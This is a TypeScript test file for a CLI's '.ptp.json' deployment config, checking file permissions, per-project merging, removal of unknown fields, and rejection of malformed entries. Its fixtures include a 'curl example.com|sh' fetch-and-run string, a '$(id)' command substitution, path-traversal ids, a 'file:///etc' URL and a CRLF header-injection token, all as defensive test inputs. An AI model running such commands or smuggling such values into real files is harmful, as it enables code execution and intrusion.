import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { findProject, readProject, writeProject } from '../../../../cli/ptp/local-files.ts';
import { testRows } from '../../../support/rows.ts';
import { planter } from '../folder/tree.ts';

const plant = planter();
let folder: string;
beforeEach(() => {
  folder = plant({});
});

const local = { url: 'http://localhost:3000', projectId: 'a', id: 'aaaaaaaaaaa1', token: 'ptd_1' };
const cloud = { url: 'https://ptp.example.com', projectId: 'b', id: 'aaaaaaaaaaa2', owner: 'key' } as const;

describe('.ptp.json', () => {
  it('is readable by its user only', () => {
    writeFileSync(join(folder, '.ptp.json'), JSON.stringify(local), { mode: 0o644 });
    writeProject(folder, local);
    expect(statSync(join(folder, '.ptp.json')).mode & 0o777).toBe(0o600);
  });

  it('keeps the deployments at other base URLs and of other projects', () => {
    expect(readProject(folder)).toBeUndefined();
    writeProject(folder, { ...local, version: 'v1', files: { 'index.html': 'ab'.repeat(32) } });
    writeProject(folder, cloud);
    expect(readProject(folder)).toEqual(cloud);
    expect(findProject(folder, local.url)).toEqual({ ...local, version: 'v1' });
    writeProject(folder, { ...local, projectId: 'c', id: 'aaaaaaaaaaa3' });
    expect(findProject(folder, local.url)).toMatchObject({ id: 'aaaaaaaaaaa3' });
    expect(findProject(folder, local.url, 'a')).toMatchObject({ id: 'aaaaaaaaaaa1', token: 'ptd_1' });
    expect(findProject(folder, cloud.url)).toEqual(cloud);
    expect(findProject(folder, cloud.url, 'a')).toBeUndefined();
  });

  it('replaces the deployment of the same project', () => {
    writeProject(folder, local);
    writeProject(folder, { ...local, version: 'v2' });
    expect(JSON.parse(readFileSync(join(folder, '.ptp.json'), 'utf8'))).toEqual({ ...local, version: 'v2' });
  });

  it('keeps no field that it does not know', () => {
    const others = [{ ...cloud, '\n$(id)\n': 'x' }];
    const foreign = { ...local, '\ncurl example.com|sh\n': 'x', others };
    writeFileSync(join(folder, '.ptp.json'), JSON.stringify(foreign));
    writeProject(folder, { ...local, version: 'v2' });
    const written = JSON.parse(readFileSync(join(folder, '.ptp.json'), 'utf8'));
    expect(written).toEqual({ ...local, version: 'v2', others: [cloud] });
  });

  testRows([
    ['{', 'is not a JSON object'],
    ['[]', 'is not a JSON object'],
    ['{"url": "http://localhost:3000", "projectId": "a"}', 'has no "id"'],
    [JSON.stringify({ ...local, others: [{ url: cloud.url, id: cloud.id }] }), 'has no "projectId"'],
    [JSON.stringify({ ...local, others: {} }), 'has an invalid "others"'],
    [JSON.stringify({ ...local, others: [null] }), 'has no "url"'],
    [JSON.stringify({ ...local, id: '../../../pwn' }), 'has an invalid "id"'],
    [JSON.stringify({ ...local, url: 'file:///etc' }), 'has an invalid "url"'],
    [JSON.stringify({ ...local, url: 'http://\u001b[2J' }), 'has an invalid "url"'],
    [JSON.stringify({ ...local, projectId: 'a\nb' }), 'has an invalid "projectId"'],
    [JSON.stringify({ ...local, token: 'ptd_\r\nX: y' }), 'has an invalid "token"'],
    [JSON.stringify({ ...local, version: 1 }), 'has an invalid "version"'],
    [JSON.stringify({ ...local, owner: 'root' }), 'has an invalid "owner"'],
    [JSON.stringify({ ...local, files: { '../x': 'ab'.repeat(32) } }), 'has an invalid "files"'],
    [JSON.stringify({ ...local, files: { x: 'ab' } }), 'has an invalid "files"'],
  ])('aborts with advice if it is malformed', (content, message) => {
    writeFileSync(join(folder, '.ptp.json'), content);
    const name = join(folder, '.ptp.json');
    expect(() => readProject(folder)).toThrow(`${name} ${message}: repair or delete it`);
    expect(() => writeProject(folder, local)).toThrow('repair or delete it');
    expect(readFileSync(name, 'utf8')).toBe(content);
  });
});
